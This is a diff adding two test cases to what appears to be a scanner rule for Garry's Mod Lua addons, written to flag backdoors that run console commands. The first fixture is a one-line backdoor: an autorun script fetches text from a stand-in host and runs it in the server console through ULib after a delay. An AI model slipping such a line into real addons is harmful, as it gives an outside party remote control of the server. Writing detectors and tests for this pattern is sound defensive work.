@@ -54,4 +54,22 @@ describe('luarun_command', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it("a web reply's lines run in the server console through ULib", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'timer.Simple(45, function() http.Fetch("https://x.invalid/jobs.txt", function(body) ULib.execString(body, "jobs") end) end)',
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("the owner's own schedule file run through ULib, or a fixed line (no high finding)", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'timer.Create("cron", 60, 0, function()',
+        '  ULib.execString(file.Read("cron/jobs.txt", "DATA") or "", "cron")',
+        '  ULib.consoleCommand("say Server restarts at 5am\\n")',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThan(RANK.high);
+  });
 });
